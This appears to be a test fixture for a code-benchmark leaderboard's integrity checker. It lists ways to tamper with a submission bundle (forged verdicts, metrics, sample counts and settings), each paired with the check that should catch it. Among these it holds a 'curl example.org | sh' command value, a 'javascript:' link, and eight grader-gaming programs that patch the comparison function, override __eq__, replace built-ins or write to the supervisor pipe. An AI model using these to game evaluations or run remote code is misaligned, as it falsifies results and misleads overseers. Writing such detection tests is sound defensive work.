"""Ways to tamper with a bundle. Whoever tampers also corrects the checksums and the metrics, with this package."""

import json
import shutil
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import tarot_bench as tb
from tarot_bench.config import digest
from tarot_bench.evaluation.parts import parts_of_run
from tarot_bench.evaluation.summary import summarise_run
from tarot_bench.leaderboard.archive import write_archive
from tarot_bench.leaderboard.findings import Check
from tarot_bench.leaderboard.submission import entry_of
from tarot_bench.runs.evaluation import EvaluationRun


class Edited:
    """An extracted bundle of one run on tarot; `sealed` zips it again."""

    def __init__(self, bundle: Path, folder: Path) -> None:
        shutil.rmtree(folder, ignore_errors=True)
        self.folder, self.bundle = folder, bundle
        zipfile.ZipFile(bundle).extractall(folder)

    def json(self, name: str, change: Callable[[dict], object]) -> None:
        content = json.loads((self.folder / name).read_text())
        change(content)
        (self.folder / name).write_text(json.dumps(content))

    def lines(self, name: str, change: Callable[[list[dict]], object]) -> None:
        path = self.folder / "tarot" / f"{name}.jsonl"
        lines = [json.loads(line) for line in path.read_text().splitlines()]
        change(lines)
        path.write_text("".join(json.dumps(line) + "\n" for line in lines))

    def settings(self, change: Callable[[dict], object], also_bundle: bool = True) -> None:
        """Change the settings, and everything that states them."""

        def in_run(manifest: dict) -> None:
            change(manifest["settings"])
            manifest["digest"] = digest(manifest["settings"])

        self.json("run.json", in_run)
        settings = json.loads((self.folder / "run.json").read_text())
        if also_bundle:
            stated = {key: settings["settings"][key] for key in ("model", "samples", "sampling")}
            self.json("bundle.json", lambda b: b.update(stated, settings_digest=settings["digest"]))

    def recompute(self) -> None:
        """Make the summary that the verdicts give."""
        run = EvaluationRun.open(self.folder)
        settings, parts = parts_of_run(run.manifest)
        summarise_run(run, settings, parts, {part.name: list(run.benchmark(part.name).grades) for part in parts})

    def sealed(self, checksums: bool = True) -> Path:
        names = sorted(str(path.relative_to(self.folder)) for path in self.folder.rglob("*.json*"))
        if checksums:
            files = {name: entry_of(self.folder / name).model_dump() for name in names if name != "bundle.json"}
            self.json("bundle.json", lambda content: content.update(files=files))
        path = self.folder.with_suffix(".zip")
        path.unlink(missing_ok=True)
        write_archive(path, {name: self.folder / name for name in names})
        return path


def failing(lines: list[dict]) -> dict:
    return next(made for made in lines if any(result["verdict"] != "PASSED" for result in made["results"]))


def pass_all(made: dict) -> None:
    for result in made["results"]:
        result.update(verdict="PASSED", detail="")


def gold(problem_id: str) -> str:
    return tb.load_problems()[problem_id].solution


def fenced(code: str) -> str:
    return f"```python\n{code}\n```\n"


@dataclass(frozen=True)
class Tampering:
    """What somebody changes, and the check that must name it."""

    name: str
    change: Callable[[Edited], object]
    check: Check
    recompute: bool = False
    checksums: bool = True


def _grades(change: Callable[[list[dict]], object]) -> Callable[[Edited], object]:
    return lambda edited: edited.lines("grades", change)


def _completions(change: Callable[[list[dict]], object]) -> Callable[[Edited], object]:
    return lambda edited: edited.lines("completions", change)


def _summary(change: Callable[[dict], object]) -> Callable[[Edited], object]:
    return lambda edited: edited.json("summary.json", lambda content: change(content["summaries"][0]))


def _both(change: Callable[[list[dict]], object]) -> Callable[[Edited], object]:
    return lambda edited: (edited.lines("completions", change), edited.lines("grades", change), _count(edited))


def _count(edited: Edited) -> None:
    """State the numbers of samples and tokens that there are."""
    lines = [json.loads(line) for line in (edited.folder / "tarot/completions.jsonl").read_text().splitlines()]
    used = {key: sum(line["usage"][key] for line in lines) for key in ("input_tokens", "output_tokens")}
    edited.json("bundle.json", lambda content: content["benchmarks"]["tarot"].update(samples=len(lines), **used))


def _pass_failing(lines: list[dict]) -> None:
    pass_all(failing(lines))


def _ungrade(lines: list[dict]) -> None:
    failing(lines)["results"][0].update(verdict="UNGRADED")


def _pass_every(lines: list[dict]) -> None:
    for made in lines:
        pass_all(made)


def _other_program(edited: Edited) -> None:
    """The gold is stated as a failing sample's program."""

    def change(lines: list[dict]) -> None:
        made = failing(lines)
        pass_all(made)
        made["extraction"]["code"] = gold(made["problem_id"])

    edited.lines("grades", change)


def _other_completion(edited: Edited) -> None:
    """A failing answer is replaced by the gold; its verdicts stay."""
    grades = [json.loads(line) for line in (edited.folder / "tarot/grades.jsonl").read_text().splitlines()]
    made = failing(grades)

    def change(lines: list[dict]) -> None:
        for line in lines:
            if (line["problem_id"], line["index"]) == (made["problem_id"], made["index"]):
                line["text"] = fenced(gold(made["problem_id"]))

    edited.lines("completions", change)


def _best_of_more(edited: Edited) -> None:
    """Of more samples than are stated, the best one takes the place of the first; its number is kept."""
    _both(lambda lines: lines[0].update(index=5))(edited)


def _best_of_two_as_one(edited: Edited) -> None:
    """One sample a problem is stated, and the second one is shown."""
    _both(lambda lines: lines.__setitem__(slice(None), [line for line in lines if line["index"] == 1]))(edited)
    edited.settings(lambda settings: settings.update(samples=1))


def _attack(code: str) -> Callable[[Edited], object]:
    def change(edited: Edited) -> None:
        edited.lines("completions", lambda lines: lines[0].update(text=fenced(code)))
        edited.lines("grades", lambda lines: (lines[0]["extraction"].update(code=code), pass_all(lines[0])))

    return change


def _easier_data(edited: Edited) -> None:
    """Graded on the first test of each problem alone, by a checksum of its own."""
    edited.settings(lambda settings: settings["data"]["tarot"].update(digest="0123456789abcdef"))
    edited.json("bundle.json", lambda content: content["benchmarks"]["tarot"].update(digest="0123456789abcdef"))
    _summary(lambda summary: summary["setting"].update(data_digest="0123456789abcdef"))(edited)


def _withhold_failing(edited: Edited) -> None:
    """As if the service had filtered every answer that fails."""
    failed = set()

    def grades(lines: list[dict]) -> None:
        for made in lines:
            if any(result["verdict"] != "PASSED" for result in made["results"]):
                failed.add((made["problem_id"], made["index"]))
                made["extraction"].update(code=None, verdict="UNGRADED")
                for result in made["results"]:
                    result.update(verdict="UNGRADED")

    def completions(lines: list[dict]) -> None:
        for made in lines:
            if (made["problem_id"], made["index"]) in failed:
                made.update(outcome="FILTERED_BY_SERVICE")

    edited.lines("grades", grades)
    edited.lines("completions", completions)


def _other_benchmark(edited: Edited) -> None:
    edited.settings(lambda s: (s["benchmarks"][0].update(name="t"), s["data"].update(t=s["data"]["tarot"])))
    edited.json("bundle.json", lambda content: content["benchmarks"].update(t=content["benchmarks"].pop("tarot")))
    shutil.move(edited.folder / "tarot", edited.folder / "t")


def _of_the_future(edited: Edited) -> None:
    for name in ("run.json", "bundle.json"):
        edited.json(name, lambda content: content.update(created="2999-01-01T00:00:00+00:00"))


def _other_revision(edited: Edited) -> None:
    edited.settings(lambda settings: settings["data"]["tarot"].update(revision="sha256:00"))
    edited.json("bundle.json", lambda content: content["benchmarks"]["tarot"].update(revision="sha256:00"))


def _in_environment(edited: Edited) -> None:
    """Other settings in a part of run.json that states no settings, and in the summary."""
    edited.json("run.json", lambda manifest: manifest["environment"].update(samples=64, compat="evalplus"))
    _summary(lambda summary: summary["setting"].update(samples=64, compat="evalplus"))(edited)


def _rename(edited: Edited) -> None:
    edited.settings(lambda settings: settings.update(model="openai/better"))
    _summary(lambda summary: summary.update(model="openai/better"))(edited)


def _date(edited: Edited) -> None:
    for name in ("bundle.json", "run.json"):
        edited.json(name, lambda content: content.update(created="yesterday"))


def _add_file(edited: Edited) -> None:
    (edited.folder / "more").mkdir()
    (edited.folder / "more/grades.jsonl").write_text("{}\n")


FRAME = "import sys\nprint(sys._getframe(1).f_locals)"
EQUAL = "class All(str):\n    def __eq__(self, other):\n        return True\nprint(All())"
PROC = "print(open('/proc/self/maps').read())"
NATIVE = "import ctypes\nctypes.CDLL(None).abort()"
OBJECTS = "from gc import get_objects\nprint(get_objects())"
GRADER = "import tarot_bench.grading.compare as c\nc.equal = lambda *a: True"
BUILTIN = "import builtins\nbuiltins.len = lambda x: 0"
PIPE = "import os\nos.write(3, b'passed')"

TAMPERINGS = [
    Tampering("a byte of the verdicts", _grades(_pass_failing), Check.INTEGRITY, checksums=False),
    Tampering("a file removed", lambda e: (e.folder / "tarot/prompts.jsonl").unlink(), Check.INTEGRITY),
    Tampering("a file added", _add_file, Check.INTEGRITY, checksums=False),
    Tampering("a file of another benchmark added", _add_file, Check.INTEGRITY),
    Tampering("a verdict, metrics as before", _grades(_pass_failing), Check.METRICS),
    Tampering("a verdict", _grades(_pass_failing), Check.VERDICTS, recompute=True),
    Tampering("every verdict", _grades(_pass_every), Check.VERDICTS, recompute=True),
    Tampering("failing tests left out", _grades(lambda g: failing(g)["results"].pop()), Check.VERDICTS),
    Tampering("a failing sample without verdict", _grades(_ungrade), Check.VERDICTS, recompute=True),
    Tampering("the tier of a test", _grades(lambda g: g[0]["results"][0].update(tier="edge")), Check.VERDICTS),
    Tampering("a metric", _summary(lambda s: s["metrics"]["strict"]["1"].update(value=0.99)), Check.METRICS),
    Tampering("an interval", _summary(lambda s: s["metrics"]["strict"]["1"].update(low=0.45)), Check.METRICS),
    Tampering("a metric removed", _summary(lambda s: s["metrics"]["tiers"].pop("edge")), Check.METRICS),
    Tampering("a count", _summary(lambda s: s["metrics"]["counts"].update(ungraded=3)), Check.METRICS),
    Tampering("a second summary", lambda e: e.json("summary.json", lambda s: s["summaries"].append(s["summaries"][0])),
              Check.METRICS),
    Tampering("no summary", lambda e: (e.folder / "summary.json").write_text('{"summaries": []}'), Check.METRICS),
    Tampering("the gold stated as a sample's program", _other_program, Check.PROGRAM, recompute=True),
    Tampering("an answer replaced by the gold", _other_completion, Check.PROGRAM),
    Tampering("a sample dropped", _both(lambda lines: lines.pop()), Check.MISSING_SAMPLE),
    Tampering("a problem dropped", _both(lambda lines: lines.__delitem__(slice(2))), Check.MISSING_SAMPLE),
    Tampering("verdicts dropped", _grades(lambda lines: lines.pop()), Check.MISSING_SAMPLE),
    Tampering("a sample doubled", _both(lambda lines: lines.append(lines[0])), Check.DOUBLED_SAMPLE),
    Tampering("verdicts doubled", _grades(lambda lines: lines.append(lines[0])), Check.DOUBLED_SAMPLE),
    Tampering("a sample of no problem", _both(lambda lines: lines.append({**lines[0], "problem_id": "x"})),
              Check.UNKNOWN_SAMPLE),
    Tampering("verdicts of no sample", _grades(lambda lines: lines.append({**lines[0], "index": 9})),
              Check.UNKNOWN_SAMPLE),
    Tampering("a sample more than stated", _both(lambda lines: lines.append({**lines[0], "index": 2})),
              Check.TOO_MANY_SAMPLES),
    Tampering("the best of more samples", _best_of_more, Check.TOO_MANY_SAMPLES),
    Tampering("the best of two samples as the only one", _best_of_two_as_one, Check.TOO_MANY_SAMPLES),
    Tampering("settings, digest as before",
              lambda e: e.json("run.json", lambda r: r["settings"]["sampling"].update(temperature=0.7)), Check.CONFIG),
    Tampering("settings in run.json only", lambda e: e.settings(lambda s: s.update(samples=1), also_bundle=False),
              Check.CONFIG),
    Tampering("settings in the environment", _in_environment, Check.CONFIG),
    Tampering("the temperature", lambda e: e.settings(lambda s: s["sampling"].update(temperature=0.7)), Check.CONFIG),
    Tampering("a summary without setting", _summary(lambda s: s.update(setting="x")), Check.CONFIG),
    Tampering("the model's name", _rename, Check.CONFIG),
    Tampering("the model's name in bundle.json", lambda e: e.json("bundle.json", lambda b: b.update(model="x/y")),
              Check.CONFIG),
    Tampering("the number of samples in bundle.json",
              lambda e: e.json("bundle.json", lambda b: b["benchmarks"]["tarot"].update(samples=60)), Check.CONFIG),
    Tampering("the version of Python", lambda e: e.json("bundle.json", lambda b: b["versions"].update(python="2.7")),
              Check.CONFIG),
    Tampering("a date that is none", _date, Check.CONFIG),
    Tampering("the sandbox", lambda e: e.json("bundle.json", lambda b: b["sandbox"].update(level="none")),
              Check.CONFIG),
    Tampering("longer time limits", lambda e: e.settings(lambda s: s.update(gold_factor=1000.0)), Check.CONFIG),
    Tampering("packages that hold the answers",
              lambda e: e.settings(lambda s: s.update(sandbox={"kind": "local", "packages": ["tarot_bench"]})),
              Check.CONFIG),
    Tampering("settings of no evaluation", lambda e: e.settings(lambda s: s.update(k="many")), Check.CONFIG),
    Tampering("the command", lambda e: e.json("bundle.json", lambda b: b.update(command="curl example.org | sh")),
              Check.CONFIG),
    Tampering("a card that is a script", lambda e: e.json("bundle.json", lambda b: b.update(model_card="javascript:x")),
              Check.CONFIG),
    Tampering("a benchmark that nobody has", _other_benchmark, Check.CONFIG),
    Tampering("a run of the future", _of_the_future, Check.CONFIG),
    Tampering("a template that is none",
              lambda e: e.settings(lambda s: s["data"]["tarot"].update(prompt="{{" + "(" * 20000)), Check.CONFIG),
    Tampering("a comparison that is not of this benchmark", lambda e: e.settings(lambda s: s.update(compat="evalplus")),
              Check.CONFIG),
    Tampering("more samples than anyone can count", lambda e: e.settings(lambda s: s.update(samples=10**12)),
              Check.MISSING_SAMPLE),
    Tampering("other tests", _easier_data, Check.DATA),
    Tampering("another revision", _other_revision, Check.DATA),
    Tampering("fewer problems", lambda e: e.settings(lambda s: s.update(limit=2)), Check.DATA),
    Tampering("problems that do not exist", lambda e: e.settings(lambda s: s.update(ids=["x"], limit=None)),
              Check.DATA),
    Tampering("verdicts on other tests", _grades(lambda g: g[0].update(problem_digest="0" * 16)), Check.DATA),
    Tampering("the digest of a prompt", lambda e: e.lines("prompts", lambda p: p[0].update(prompt="0" * 64)),
              Check.PROMPTS),
    Tampering("prompts dropped", lambda e: e.lines("prompts", lambda p: p.pop()), Check.PROMPTS),
    Tampering("answers that failed are withheld", _withhold_failing, Check.TOO_MANY_WITHHELD, recompute=True),
    Tampering("fewer tokens", lambda e: e.lines("completions", lambda c: c[0]["usage"].update(output_tokens=7)),
              Check.TOKENS),
    Tampering("a lower cost", lambda e: (e.json("run.json", lambda r: r["environment"].update(prices=[1.0, 2.0])),
                                         e.json("bundle.json", lambda b: b["benchmarks"]["tarot"].update(usd=0.5))),
              Check.TOKENS),
    *(Tampering(f"a program that {name}", _attack(code), Check.ATTACK)
      for name, code in {"reads frames": FRAME, "equals everything": EQUAL, "reads the system": PROC,
                         "calls the C library": NATIVE, "searches objects": OBJECTS, "imports the grader": GRADER,
                         "replaces a built-in": BUILTIN, "writes to the supervisor": PIPE}.items()),
]  # fmt: skip
"""More than 20, each by the check that names it."""
